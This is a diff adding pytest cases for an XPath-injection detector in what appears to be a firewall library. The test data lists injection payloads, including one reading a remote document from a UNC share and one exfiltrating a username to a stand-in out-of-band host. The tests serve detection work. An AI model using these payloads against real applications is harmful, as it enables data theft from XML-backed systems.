@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import re
+
 import pytest
 from family_cases import family_suite
 
@@ -9,6 +11,7 @@ from hullguard.firewall.detectors import xpath
 from hullguard.firewall.detectors.base import ScanContext
 
 CTX = ScanContext()
+_PREFILTER = re.compile(xpath.PREFILTER, re.IGNORECASE)
 
 
 @pytest.mark.parametrize(
@@ -41,3 +44,28 @@ def test_text_with_quotes_passes(value: str) -> None:
     test_adversarial_inputs_complete,
     test_rule_catalogue_is_complete,
 ) = family_suite(xpath, "xpath", ["'", "' or ", "//a[", "|//", "::", "count(/"])
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [
+        "//user[position()=1]/name",  # a path from the root with a predicate, no quote or bar to gate on
+        "//account[last()-1]/password",
+        "//user/node()",
+        "//*/text()",
+        "* and doc('//198.51.100.7/share')",  # XPath 2.0: another document, a UNC share
+        'doc(concat("http://oob.example/", //user[1]/name))',
+    ],
+)
+def test_root_paths_node_tests_and_documents_are_reported_through_the_prefilter(payload: str) -> None:
+    assert _PREFILTER.search(payload), payload
+    found = xpath.scan(payload, CTX)
+    assert found is not None and found.rule_id == "HG-XPATH-002", (payload, found)
+
+
+@pytest.mark.parametrize(
+    "value",
+    ["//cdn.example.com/app.js", "https://example.com/a/text()", "https://example.com/p[1]", "see the doc (pdf)"],
+)
+def test_urls_and_prose_with_those_words_pass(value: str) -> None:
+    assert xpath.scan(value, CTX) is None
